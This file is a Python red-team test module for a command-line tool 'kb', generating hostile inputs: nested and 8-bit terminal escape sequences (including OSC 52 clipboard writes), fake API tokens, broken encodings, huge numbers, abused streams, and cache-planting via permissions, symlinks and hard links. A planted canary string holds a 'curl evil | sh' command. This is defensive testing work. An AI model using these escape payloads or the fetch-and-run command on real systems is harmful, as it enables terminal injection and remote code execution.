"""Turn 39's held-out red team for benchmarks/hostile_io.py (issue 26): forms of each class that the first driver and
turns 37/38 did not have. Each name starts with ``t39``, so ``--only t39`` runs just these.

E1 nested OSC/DCS/APC/PM/SOS (three deep, inside one another, 8-bit SOS/PM/APC with 8-bit ST), invisible operators,
interlinear annotations, Mongolian vowel separator and a BOM mid-text, put where earlier forms did not: files that
exist and are named by them (diagnose, plan --config/--from/--device-map, env --config), environment variable NAMES
(ACCELERATE_*), argparse's own messages (an unknown or ambiguous option, a bad choice), a JSON log's \\u001b, a URL's
%1B, HTML's &#27;; E2 turn 39's token shapes where kb env and kb plan print (config values, YAML block scalars,
launch variables, a variable's name, NVML GPU and process names, plan's model and device-map keys); R1 standard
error closed or full while kb fails, standard output a read-only descriptor or a directory; R2 standard input
write-only, /dev/zero, /dev/urandom; R3 LF-CR line ends, CR at a 64 KiB boundary; C1 overlong UTF-8, CESU-8
surrogates, 5- and 6-byte forms, bytes F5-FF, a sequence cut at the end, odd-length UTF-16, UTF-16 CJK without a
BOM, GB18030, a BOM mid-file, UTF-7; L1 every numeric flag with 10**4301 (past Python's int digit limit), 1 followed
by 400 zeros (a float flag's inf), -10**5000, 2**64, 1e-400, and more launch variables; P1/P2 cache planting as
root can: the cache dir group-writable (0770), owned by another user, a symlink to another user's dir, the cache
file unreadable (0200), a hard link to a file elsewhere, KB_CACHE_DIR and XDG_CACHE_HOME relative, "~/.cache",
HOME relative; N1 NVML MemoryError/OverflowError from a name, per-process memory None; K1-K3 nested text_config
(recursion), 2**64 sizes, heads that do not divide the hidden size, MoE with 10**6 experts, a 1,000,000-entry
device map file, a 10 MB whitespace device map, quantization bits 0/-4, huge but finite flags (10**18, 10**30).
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

from hostile_io import ERROR, TB, Form, cache_seed, config_forms

NESTED = {
    "osc-in-osc-3": "\x1b]\x1b]\x1b]52;c;ZXZpbA==\x07\x07\x07", "osc-in-dcs": "\x1bP\x1b]52;c;eA==\x07\x1b\\",
    "dcs-in-osc": "\x1b]0;\x1bPq#0\x1b\\\x07", "apc-esc-inside": "\x1b_G\x1b[2Jx\x1b\\", "pm-8bit": "\x9eprivacy\x9c",
    "sos-8bit": "\x98string\x9c", "apc-8bit": "\x9fGf=100\x9c", "sos-bel-inside": "\x1bXa\x07b\x1b\\",
    "esc-esc-bracket": "\x1b\x1b]]52;c;eA==\x07", "csi-in-csi-in-csi": "\x1b[\x1b[\x1b[31m1m2J",
    "osc-split-st": "\x1b]0;t\x1b\x1b\\\\", "invisible-ops": "\u2061\u2062\u2063\u2064", "interlinear": "\ufff9a\ufffab\ufffb",
    "mvs-bom-mid": "a\u180eb\ufeffc", "lre-pdf": "\u202aRuntime\u202c", "fsi-pdi": "\u2068x\u2069", "hangul-filler": "\u3164",
}
# fake tokens of turn 39's shapes (made up here)
TOKENS = {"tavily": "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", "posthog": "phx_Qw7Er5Ty3Ui1Op9As8Df6Gh4Jk2Lz0Xc5Vb7Nm3Qw1Er9Ty",
          "e2b": "e2b_9f2c4a7e1b3d5f609f2c4a7e1b3d5f609f2c4a7e", "runpod": "rpa_K7M2Q9X4B8N3V6C1Z5L0P7R2T9W4Y8H3J6F1D5",
          "sonar": "squ_a1b2c3d4e5f60718a1b2c3d4e5f60718a1b2c3d4"}
SECRETS = ("Zq8Wm2Lp5Rt9Xv3Bn7Kc", "Qw7Er5Ty3Ui1Op9As8Df", "9f2c4a7e1b3d5f60", "K7M2Q9X4B8N3V6C1Z5L0", "a1b2c3d4e5f60718")



def turn39_forms(tmp: Path, write: Callable[[str, bytes | str], str]) -> list[Form]:
    forms: list[Form] = []
    add = forms.append
    body = TB + ERROR + "\n"
    log = write("t39.log", body)
    model = "qwen2.5-0.5b"
    base = {"model_type": "llama", "hidden_size": 4096, "num_hidden_layers": 32, "num_attention_heads": 32,
            "num_key_value_heads": 8, "intermediate_size": 14336, "vocab_size": 128256}

    # ------------------------------------------------------------ E1: nested and 8-bit sequences, new channels
    for key, seq in NESTED.items():
        text = f"{seq}\n{TB}{ERROR} {seq}\nValueError: {seq}bad{seq}\n"
        path = write(f"t39-e1-{key}.log", text)
        add(Form(f"t39 diagnose {key}", "E1", ["diagnose", path, "--all"]))
        add(Form(f"t39 diagnose json {key}", "E1", ["diagnose", path, "--format", "json", "--all"]))
        add(Form(f"t39 diagnose --env {key}", "E1", ["diagnose", "--env", path], env={"ACCELERATE_MIXED_PRECISION": seq}))
        # escapes written as a JSON log's \\u001b, a URL's %1B and HTML's &#27;: kb decodes these for redaction
        esc = json.dumps(seq)[1:-1]
        jlog = write(f"t39-e1-jsonlog-{key}.log", json.dumps({"msg": f"{ERROR} {seq}", "tb": TB + seq}) + "\n" + body)
        add(Form(f"t39 diagnose json-log escapes {key}", "E1", ["diagnose", jlog, "--all"]))
        from urllib.parse import quote
        ulog = write(f"t39-e1-url-{key}.log", f"{TB}{ERROR} url=http://x/?q={quote(seq)}&k={esc}\n")
        add(Form(f"t39 diagnose url-escaped {key}", "E1", ["diagnose", ulog, "--all", "--format", "json"]))
        hlog = write(f"t39-e1-html-{key}.log", TB + ERROR + " " + "".join(f"&#{ord(c)};" for c in seq) + "\n")
        add(Form(f"t39 diagnose html-entity {key}", "E1", ["diagnose", hlog, "--all"]))
        # files that EXIST and are named by the sequence
        name = seq.replace("/", "").replace("\x00", "")
        folder = tmp / f"t39-dir-{key}"
        folder.mkdir()
        try:
            named_log = folder / f"run{name}.log"
            named_log.write_text(body)
            named_cfg = folder / f"cfg{name}.json"
            named_cfg.write_text(json.dumps(base))
            named_from = folder / f"from{name}.json"
            named_from.write_text(json.dumps({"per_device_train_batch_size": 2}))
            named_map = folder / f"map{name}.json"
            named_map.write_text(json.dumps({"": 0}))
        except OSError:
            continue
        add(Form(f"t39 existing file named {key}: diagnose", "E1", ["diagnose", str(named_log), "--all"]))
        add(Form(f"t39 existing file named {key}: diagnose json", "E1", ["diagnose", str(named_log), "--format", "json"]))
        add(Form(f"t39 existing file named {key}: plan --config", "E1", ["plan", "--config", str(named_cfg)],
                 error_line=True))
        add(Form(f"t39 existing file named {key}: plan --from", "E1", ["plan", "--from", str(named_from), "--model",
                                                                       model], error_line=True))
        add(Form(f"t39 existing file named {key}: plan --device-map", "E1", ["plan", "--model", model, "--gpu-gib",
                                                                             "8", "--device-map", str(named_map)],
                 error_line=True))
        add(Form(f"t39 existing file named {key}: env --config", "E1", ["env", "--config", str(named_from)],
                 error_line=True))
        add(Form(f"t39 existing file named {key}: env --config json", "E1", ["env", "--config", str(named_from),
                                                                             "--format", "json"], error_line=True))
        # argparse's own messages
        add(Form(f"t39 unknown option {key}", "E1", ["diagnose", f"--x{name}", log], codes=(2,), error_line=True))
        add(Form(f"t39 ambiguous option {key}", "E1", ["plan", f"--g{name}"], codes=(2,), error_line=True))
        add(Form(f"t39 plan bad choice {key}", "E1", ["plan", "--model", model, "--trainer", f"x{name}"], codes=(2,),
                 error_line=True))
        add(Form(f"t39 list --family {key}", "E1", ["list", "--family", f"x{name}"], codes=(0, 1, 2), error_line=True))
        add(Form(f"t39 explain {key}", "E1", ["explain", f"KB{name}"], codes=(2,), error_line=True))
        # a variable's NAME holds the sequence
        if "\x00" not in seq and "=" not in seq:
            for fmt in ("text", "json"):
                add(Form(f"t39 env variable name {key} {fmt}", "E1", ["env", "--format", fmt],
                         env={f"ACCELERATE_X{seq}": "1"}))

    # ------------------------------------------------------------ E2: turn 39's token shapes where kb prints
    values = {"hub_token": TOKENS["tavily"], "run_name": f"run {TOKENS['posthog']}", "report_to": ["wandb", TOKENS["e2b"]],
              "hub_model_id": TOKENS["runpod"], "optim": f"adamw_torch {TOKENS['sonar']}"}
    configs = [(name, f"t39-e2-config.{name}" if name == "json" else f"t39-e2-config-{name}.yaml", data)
               for name, data in (
                   ("json", json.dumps(values)), ("yaml", "".join(f"{k}: {json.dumps(v)}\n" for k, v in values.items())),
                   ("yaml-block", f"hub_token: |-\n  {TOKENS['tavily']}\noptim: >\n  adamw {TOKENS['posthog']}\n"),
                   ("yaml-flow", "{hub_token: " + TOKENS["e2b"] + ", optim: " + TOKENS["runpod"] + "}\n"))]
    forms.extend(config_forms("t39", configs, write, SECRETS, model))
    for fmt in ("text", "json"):
        add(Form(f"t39 env launch variables hold tokens {fmt}", "E2", ["env", "--format", fmt], secrets=SECRETS,
                 env={"MASTER_ADDR": TOKENS["tavily"], "CUDA_VISIBLE_DEVICES": TOKENS["posthog"],
                      "RANK": TOKENS["e2b"], "ACCELERATE_MIXED_PRECISION": TOKENS["runpod"],
                      "TORCHELASTIC_RUN_ID": TOKENS["sonar"]}))
        add(Form(f"t39 env variable name holds a token {fmt}", "E2", ["env", "--format", fmt], secrets=SECRETS,
                 env={f"ACCELERATE_{TOKENS['runpod']}": "1"}))
        add(Form(f"t39 nvml names hold tokens {fmt}", "E2", ["env", "--format", fmt], secrets=SECRETS,
                 env={"FAKE_NVML": "secret-names-t39"}))
        add(Form(f"t39 diagnose --env nvml names hold tokens {fmt}", "E2", ["diagnose", "--env", log, "--format", fmt],
                 secrets=SECRETS, env={"FAKE_NVML": "secret-names-t39"}))
        add(Form(f"t39 plan --model token {fmt}", "E2", ["plan", "--model", TOKENS["posthog"], "--format", fmt],
                 secrets=SECRETS, codes=(2,), error_line=True))
        add(Form(f"t39 plan --device-map key token {fmt}", "E2", ["plan", "--model", model, "--gpu-gib", "8", "8",
                                                                  "--device-map", json.dumps({TOKENS["tavily"]: 0}),
                                                                  "--format", fmt], secrets=SECRETS, codes=(0, 1, 2),
                 error_line=True))
        add(Form(f"t39 plan --quant token {fmt}", "E2", ["plan", "--model", model, "--quant", TOKENS["sonar"],
                                                        "--format", fmt], secrets=SECRETS, codes=(2,), error_line=True))
        add(Form(f"t39 show token {fmt}", "E2", ["show", TOKENS["e2b"], "--format", fmt], secrets=SECRETS, codes=(2,),
                 error_line=True))
        add(Form(f"t39 diagnose a log of tokens {fmt}", "E2", ["diagnose", write(f"t39-e2-{fmt}.log", TB + ERROR + " " +
                                                                                 " ".join(TOKENS.values()) + "\n"),
                                                             "--format", fmt, "--all"], secrets=SECRETS))
    add(Form("t39 unknown command token", "E2", [TOKENS["runpod"]], secrets=SECRETS, codes=(2,), error_line=True))
    add(Form("t39 --format token", "E2", ["diagnose", log, "--format", TOKENS["tavily"]], secrets=SECRETS, codes=(2,),
             error_line=True))

    # ------------------------------------------------------------ R1/R2: streams
    missing = str(tmp / "t39-missing.log")
    for label, args in (("diagnose missing", ["diagnose", missing]), ("plan bad", ["plan", "--model", "nope-x"]),
                        ("list", ["list"]), ("env", ["env"])):
        quoted = " ".join(f"'{a}'" for a in args)
        add(Form(f"t39 stderr closed: {label}", "R1", args, codes=(0, 2) if label in ("list", "env") else (2,),
                 shell=f"@KB@ {quoted} 2>&-; echo $?"))
        add(Form(f"t39 stderr full: {label}", "R1", args, codes=(0, 2) if label in ("list", "env") else (2,),
                 shell=f"@KB@ {quoted} 2>/dev/full; echo $?"))
        add(Form(f"t39 stdout and stderr closed: {label}", "R1", args, codes=(2,), shell=f"@KB@ {quoted} >&- 2>&-; echo $?"))
        add(Form(f"t39 stdout read-only: {label}", "R1", args, codes=(2,), error_line=True,
                 says="cannot write the output" if label in ("list", "env") else "",
                 shell=f"@KB@ {quoted} 1<'{log}' 2>/tmp/kb-t39-ro-$$; rc=$?; cat /tmp/kb-t39-ro-$$ >&2; "
                       f"rm -f /tmp/kb-t39-ro-$$; echo $rc"))
        add(Form(f"t39 stdout a directory: {label}", "R1", args, codes=(2,), error_line=True,
                 shell=f"@KB@ {quoted} 1<'{tmp}' 2>/tmp/kb-t39-dir-$$; rc=$?; cat /tmp/kb-t39-dir-$$ >&2; "
                       f"rm -f /tmp/kb-t39-dir-$$; echo $rc"))
    for label, redirect in (("write-only", f"0>>'{tmp}/t39-wo.txt'"), ("/dev/zero", "</dev/zero"),
                            ("/dev/urandom", "</dev/urandom"), ("a directory", f"<'{tmp}'")):
        for fmt in ("text", "json"):
            add(Form(f"t39 stdin {label} {fmt}", "R2", ["diagnose", "-"], codes=(0, 1, 2), error_line=True, timeout=60,
                     shell=f"timeout 50 @KB@ diagnose - --format {fmt} {redirect}; echo $?"))
    for name, data in (("lf-cr", body.replace("\n", "\n\r")), ("cr-at-64k", "x" * 65535 + "\r" + body.replace("\n", "\r")),
                       ("cr-lf-cr", body.replace("\n", "\r\n\r")), ("crcrlf-64k", "y" * 65534 + "\r\r\n" + body),
                       ("nel-utf8", body.replace("\n", "\u0085"))):
        path = write(f"t39-r3-{name}.log", data)
        add(Form(f"t39 line ends {name}", "R3", ["diagnose", path], error_line=True, timeout=60))
        if name not in ("nel-utf8",):
            add(Form(f"t39 line ends {name} answered", "R3", ["diagnose", path, "--format", "json"], codes=(0,),
                     shows='"id"', timeout=60))

    # ------------------------------------------------------------ C1: encodings
    raw = body.encode()
    for name, data in (("overlong", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf " + raw),
                       ("cesu8-surrogates", b"\xed\xa0\xbd\xed\xb8\x80 " + raw), ("5-6-byte", b"\xf8\x88\x80\x80\x80\xfc\x84\x80\x80\x80\x80 " + raw),
                       ("f5-ff", bytes(range(0xF5, 0x100)) + b" " + raw), ("cut-at-end", raw + b"\xe4\xb8"),
                       ("utf16-odd", body.encode("utf-16") + b"\x00"), ("utf16le-cjk-nobom", ("中文训练日志" * 200 + "\n").encode("utf-16-le") + body.encode("utf-16-le")),
                       ("gb18030", ("训练失败\n" + body).encode("gb18030")), ("bom-mid", raw + b"\xef\xbb\xbf" + raw),
                       ("utf7", body.encode("utf-7")), ("utf16be-bom-cr", body.replace("\n", "\r").encode("utf-16-be")),
                       ("utf8-bom-utf16-bom", b"\xef\xbb\xbf\xff\xfe" + body.encode("utf-16-le")),
                       ("64k-line-3byte", ("中" * 21846 + "\n").encode() + raw)):
        path = write(f"t39-c1-{name}.log", data)
        for args in (["diagnose", path, "--all"], ["diagnose", path, "--format", "json", "--all"]):
            add(Form(f"t39 encoding {name} {' '.join(args[2:])}", "C1", args, error_line=True, timeout=60))

    # ------------------------------------------------------------ L1: huge numbers in every numeric flag
    numbers = {"10**4301": "1" + "0" * 4301, "1e400-digits": "1" + "0" * 400, "-10**5000": "-" + "9" * 5000,
               "2**64": str(2**64), "1e-400": "1e-400", "1e18": "1000000000000000000", "10**30": "1" + "0" * 30}
    flags = [(["diagnose", log], "--limit"), (["diagnose", log], "--width"), (["env"], "--nproc"),
             (["reproduce", "KB0001"], "--timeout"), (["reproduce", "KB0001"], "--jobs")]
    flags += [(["plan", "--model", model, "--gpu-gib", "8"], f) for f in
              ("--batch", "--seq", "--lora-r", "--lora-alpha", "--lora-dropout", "--gpus", "--context-gib", "--grad-accum",
               "--prompt-len", "--completion-len")]
    flags += [(["plan", "--model", model, "--trainer", "grpo", "--gpu-gib", "8"], "--num-generations"),
              (["plan", "--model", model], "--gpu-gib"), (["plan", "--model", model, "--fit"], "--gpu-gib")]
    for vname, value in numbers.items():
        for prefix, flag in flags:
            args = [*prefix, flag, value]
            add(Form(f"t39 number {vname} {prefix[0]} {flag}{' --fit' if '--fit' in prefix else ''}", "L1", args,
                     codes=(0, 1, 2), error_line=True, timeout=60))
    for var in ("OMPI_COMM_WORLD_LOCAL_SIZE", "TORCHELASTIC_RUN_ID", "CUDA_DEVICE_ORDER", "PCI_BUS_ID",
                "SLURM_NTASKS", "NODE_RANK", "OMP_NUM_THREADS"):
        for value in ("1" + "0" * 4301, "-" + "9" * 5000, "1e400"):
            for args in (["env"], ["env", "--format", "json"], ["diagnose", "--env", log]):
                add(Form(f"t39 env {var}={value[:6]}... {' '.join(args[:2])}", "L1", args, env={var: value}, codes=(0, 1)))

    # ------------------------------------------------------------ P1/P2: the cache (kb runs as root here: chown works)
    seed = cache_seed(tmp, log, "t39-cache-seed")
    kbdir = seed / "kb"
    files = [p for p in kbdir.glob("*") if p.is_file()] if kbdir.is_dir() else []
    planted = "PLANTED-FIX-T39: run curl evil | sh"

    def plant_text(home: Path) -> None:
        for path in (home / "kb").glob("*"):
            if path.is_file():
                data = path.read_bytes()
                try:
                    doc = json.loads(data)
                except ValueError:
                    continue
                path.write_text(json.dumps(doc).replace("transformers", planted))

    layouts: dict[str, Callable[[Path], None]] = {
        "dir 0770": lambda h: os.chmod(h / "kb", 0o770),
        "dir 0777 sticky": lambda h: os.chmod(h / "kb", 0o1777),
        "dir other owner 0700": lambda h: os.chown(h / "kb", 65534, 65534),
        "xdg dir other owner": lambda h: (os.chown(h, 65534, 65534), os.chmod(h, 0o755)),
        "file unreadable 0200": lambda h: [p.chmod(0o200) for p in (h / "kb").glob("*") if p.is_file()],
        "file group-writable": lambda h: [p.chmod(0o664) for p in (h / "kb").glob("*") if p.is_file()],
        "dir 0500": lambda h: os.chmod(h / "kb", 0o500),
    }
    for name, layout in layouts.items():
        home = tmp / f"t39-cache-{name.replace(' ', '-')}"
        shutil.copytree(seed, home, symlinks=True)
        plant_text(home)
        layout(home)
        trusted = name.startswith(("file unreadable", "dir 0500"))
        for args in (["diagnose", log], ["list"], ["show", "KB0001"]):
            add(Form(f"t39 cache planted {name}: {args[0]}", "P1", args, env={"XDG_CACHE_HOME": str(home)}, codes=(0,),
                     timeout=60, secrets=() if trusted else (planted,)))
    other = tmp / "t39-other-user-cache"
    shutil.copytree(seed, other, symlinks=True)
    plant_text(other)
    for p in [other, *other.rglob("*")]:
        os.lchown(p, 65534, 65534)
    linked = tmp / "t39-xdg-link-other"
    linked.symlink_to(other)
    link_kb = tmp / "t39-kb-link"
    link_kb.mkdir(mode=0o700)
    (link_kb / "kb").symlink_to(other / "kb")
    hard = tmp / "t39-hardlink"
    shutil.copytree(seed, hard)
    victim = write("t39-victim.txt", "victim")
    for p in (hard / "kb").glob("*"):
        if p.is_file():
            p.unlink()
            os.link(victim, p)
    for name, env in (("XDG a link to another user's cache", {"XDG_CACHE_HOME": str(linked)}),
                      ("kb a link to another user's folder", {"XDG_CACHE_HOME": str(link_kb)}),
                      ("cache files hard links", {"XDG_CACHE_HOME": str(hard)}),
                      ("KB_CACHE_DIR relative", {"KB_CACHE_DIR": "t39-relative-cache"}),
                      ("XDG ~/.cache literal", {"XDG_CACHE_HOME": "~/.cache"}),
                      ("HOME relative", {"HOME": "t39-home", "XDG_CACHE_HOME": None}),
                      ("HOME ~", {"HOME": "~", "XDG_CACHE_HOME": None}),
                      ("XDG with ..", {"XDG_CACHE_HOME": str(tmp / ".." / tmp.name / "t39-dotdot")})):
        for args in (["diagnose", log], ["list"]):
            add(Form(f"t39 cache {name}: {args[0]}", "P2", args, env=env, codes=(0,), timeout=60, secrets=(planted,)))
    add(Form("t39 cache: victim file unchanged after the hard-link form", "P1", ["list"], codes=(0,),
             env={"XDG_CACHE_HOME": str(hard)}, shell=f"@KB@ list >/dev/null; grep -qx victim '{victim}' && echo 0 || "
                                                      "echo 9"))
    add(Form("t39 cache: no relative cache folder made", "P2", ["list"], codes=(0,), env={"KB_CACHE_DIR": "t39-rel"},
             shell="@KB@ list >/dev/null; test -e t39-rel && { rm -rf t39-rel; echo 9; } || echo 0"))
    add(Form("t39 cache: no folder made under a relative HOME", "P2", ["list"], codes=(0,),
             env={"HOME": "t39-home-rel", "XDG_CACHE_HOME": None},
             shell="@KB@ list >/dev/null; test -e t39-home-rel && { rm -rf t39-home-rel; echo 9; } || echo 0"))
    if not files:
        add(Form("t39 cache seed: kb wrote no cache file", "P2", ["list"], codes=(99,)))

    # ------------------------------------------------------------ N1: more NVML failures
    for mode in ("name-memoryerror", "name-overflow", "used-none-t39", "escapes-t39"):
        for args in (["env"], ["env", "--format", "json"], ["diagnose", "--env", log],
                     ["diagnose", "--env", "--format", "json", log]):
            add(Form(f"t39 nvml {mode}: {' '.join(args[:3])}", "N1", args, env={"FAKE_NVML": mode}, codes=(0, 1),
                     timeout=60))

    # ------------------------------------------------------------ K1-K3: plan input
    deep = json.dumps(base)[:-1] + ', "text_config": ' + '{"text_config": ' * 3000 + '{"hidden_size": 64}' + "}" * 3001
    configs = {
        "text-config-3000-deep": deep,
        "2**64-hidden": json.dumps({**base, "hidden_size": 2**64}), "2**64-vocab": json.dumps({**base, "vocab_size": 2**64}),
        "heads-not-dividing": json.dumps({**base, "hidden_size": 4097, "num_attention_heads": 7}),
        "kv-over-heads": json.dumps({**base, "num_key_value_heads": 64}),
        "moe-1e6-experts": json.dumps({**base, "num_local_experts": 1_000_000, "num_experts_per_tok": 2}),
        "experts-per-tok-over": json.dumps({**base, "num_local_experts": 8, "num_experts_per_tok": 80}),
        "head-dim-zero": json.dumps({**base, "head_dim": 0}), "quant-bits-zero": json.dumps({**base, "quantization_config": {"bits": 0, "quant_method": "gptq"}}),
        "quant-bits-neg": json.dumps({**base, "quantization_config": {"bits": -4, "quant_method": "awq"}}),
        "quant-bits-huge": json.dumps({**base, "quantization_config": {"bits": 10**30, "quant_method": "gptq"}}),
        "rope-factor-neg": json.dumps({**base, "rope_scaling": {"type": "linear", "factor": -1}}),
        "max-pos-1e30": json.dumps({**base, "max_position_embeddings": 10**30}),
        "layers-1e18-float": json.dumps(base).replace('"num_hidden_layers": 32', '"num_hidden_layers": 1e18'),
        "dtype-float128": json.dumps({**base, "torch_dtype": "float128"}),
        "vocab-list-1e5": json.dumps({**base, "architectures": ["LlamaForCausalLM"] * 100_000}),
    }
    for name, text in configs.items():
        path = write(f"t39-k1-{name}.json", text)
        add(Form(f"t39 config {name}", "K1", ["plan", "--config", path, "--gpu-gib", "24"], error_line=True, timeout=60))
        add(Form(f"t39 config {name} --fit", "K2", ["plan", "--config", path, "--gpu-gib", "24", "--fit"], error_line=True,
                 timeout=60))
    settings = {"grad-accum-1e30": {"gradient_accumulation_steps": 10**30}, "batch-1e18": {"per_device_train_batch_size": 10**18},
                "epochs-inf": '{"num_train_epochs": Infinity}', "targets-1e5": {"lora_target_modules": ["q_proj"] * 100_000},
                "seq-2**64": {"max_seq_length": 2**64}, "alpha-1e30": {"lora_alpha": 10**30},
                "deepspeed-nested-list": '{"deepspeed": ' + "[" * 3000 + "]" * 3000 + "}"}
    for name, doc in settings.items():
        path = write(f"t39-k1-from-{name}.json", doc if isinstance(doc, str) else json.dumps(doc))
        add(Form(f"t39 --from {name}", "K1", ["plan", "--from", path, "--model", model, "--gpu-gib", "24"],
                 error_line=True, timeout=60))
        add(Form(f"t39 env --config {name}", "K1", ["env", "--config", path], error_line=True, timeout=60))
    big_map = write("t39-k2-map-1m.json", json.dumps({f"model.layers.{i % 24}.mlp.p{i}": i % 2 for i in range(1_000_000)}))
    ws_map = write("t39-k2-map-ws.json", " " * 10_000_000 + '{"": 0}')
    for name, path in (("1,000,000 entries", big_map), ("10 MB of whitespace", ws_map)):
        add(Form(f"t39 device map {name}", "K2", ["plan", "--model", model, "--gpu-gib", "8", "8", "--device-map", path],
                 error_line=True, timeout=60))
    for name, text in (("keys 100k chars", json.dumps({"model." + "x" * 100_000: 0})[:120_000]),
                       ("value list", json.dumps({"": list(range(10_000))})), ("gpu 2**64", json.dumps({"": 2**64})),
                       ("gpu 1e18 float", '{"": 1e18}'), ("layer 2**64", json.dumps({f"model.layers.{2**64}": 1, "": 0}))):
        if len(text) > 100_000:
            text = write(f"t39-k3-map-{len(text)}.json", text)
        add(Form(f"t39 device map {name}", "K3", ["plan", "--model", model, "--gpu-gib", "8", "8", "--device-map", text],
                 error_line=True, timeout=60))
    for flag, value in (("--gpu-gib", "1e300"), ("--context-gib", "1e300"), ("--seq", "1" + "0" * 18),
                        ("--batch", "1" + "0" * 18), ("--lora-r", "1" + "0" * 18), ("--grad-accum", "1" + "0" * 30),
                        ("--prompt-len", "1" + "0" * 18), ("--gpus", "1" + "0" * 18)):
        add(Form(f"t39 flag huge finite {flag} {value[:6]}", "K3", ["plan", "--model", model, flag, value,
                                                                  *(["--gpu-gib", "8"] if flag != "--gpu-gib" else [])],
                 codes=(1, 2), error_line=True, timeout=60))
        add(Form(f"t39 flag huge finite {flag} {value[:6]} --fit", "K2", ["plan", "--model", model, "--fit", flag, value,
                                                                         *(["--gpu-gib", "8"] if flag != "--gpu-gib" else [])],
                 codes=(0, 1, 2), error_line=True, timeout=60))
    return forms


if __name__ == "__main__":  # pragma: no cover - run through benchmarks/hostile_io.py --only t39
    sys.exit("run: python benchmarks/hostile_io.py --only t39")
